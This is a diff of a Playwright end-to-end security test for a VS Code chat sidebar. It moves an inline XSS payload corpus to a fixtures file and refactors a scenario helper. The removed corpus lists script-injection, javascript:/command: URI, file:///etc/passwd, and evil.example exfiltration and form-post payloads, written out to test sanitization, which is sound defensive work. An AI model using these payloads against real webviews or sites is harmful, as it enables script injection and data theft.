@@ -13,45 +13,12 @@ import { after, before, describe, test } from 'node:test';
 import type { FrameLocator, Locator, Request } from 'playwright-core';
 import { webviewCsp } from '../../src/extension/common/webviewHtml';
 import type { ChatEntry } from '../../src/webview/protocol';
-import { e2eUnavailable, Session, sleep, waitUntil } from './harness';
+import { e2eUnavailable, Session, sleep, waitUntil, scenarioRunner } from './harness';
+import { XSS_CORPUS } from '../fixtures/xssCorpus';
 
 const READY = /Headroom · server [\d.]+ [KMG]iB · RAM [\d.]+\/[\d.]+ GiB/;
 
-/** The unit corpus (test/unit/markdownTree.test.ts), as the model might write it. */
-const XSS_CORPUS = [
-  '<img src=x onerror=alert(1)>',
-  '<script>alert(1)</script>',
-  '<svg onload=alert(1)><circle/></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<a href="javascript:alert(1)">x</a>',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](&#106;avascript:alert(1))',
-  '[x](java\tscript:alert(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[x](vbscript:msgbox(1))',
-  '[x](file:///etc/passwd)',
-  '[x](command:workbench.action.terminal.new)',
-  '[x](vscode://vscode.git/clone?url=x)',
-  '<javascript:alert(1)>',
-  '<command:workbench.action.reloadWindow>',
-  '![x](javascript:alert(1))',
-  '![x](https://evil.example/leak?secret=1)',
-  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&#60;img src=x onerror=alert(1)&#62;',
-  '<style>body{display:none}</style>',
-  '<div style="position:fixed">overlay</div>',
-  '<form action="https://evil.example"><input name=x></form>',
-  '```html\n<script>alert(1)</script>\n```',
-  '```"><img src=x onerror=alert(1)>\ncode\n```',
-  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script> | [x](javascript:1) |',
-  '> <b onmouseover=alert(1)>quote</b>',
-  '- [x](javascript:alert(1))\n- <img onerror=alert(1)>',
-  '[ref]\n\n[ref]: javascript:alert(1)',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-];
+
 
 /** Payloads that would reach a canary HTTP server on 127.0.0.1 if anything in them ran or loaded. */
 function canaryCorpus(canary: string): string[] {
@@ -108,19 +75,7 @@ describe('the chat sidebar in real VS Code: security, code blocks, history', { s
   const requests: Request[] = [];
   const dialogs: string[] = [];
 
-  function session(): Session {
-    assert.ok(s, 'the VS Code session did not open');
-    return s;
-  }
-
-  async function scenario(name: string, body: (s: Session) => Promise<void>): Promise<void> {
-    const current = session();
-    try {
-      await body(current);
-    } finally {
-      await current.screenshot(name).catch((err: unknown) => process.stderr.write(`# screenshot ${name} failed: ${String(err)}\n`));
-    }
-  }
+  const { scenario } = scenarioRunner(() => s);
 
   /** Opens a past chat from the Chats list (the item for chat `id`); returns the title the list shows. */
   async function openPastChat(chat: FrameLocator, id: string): Promise<string> {
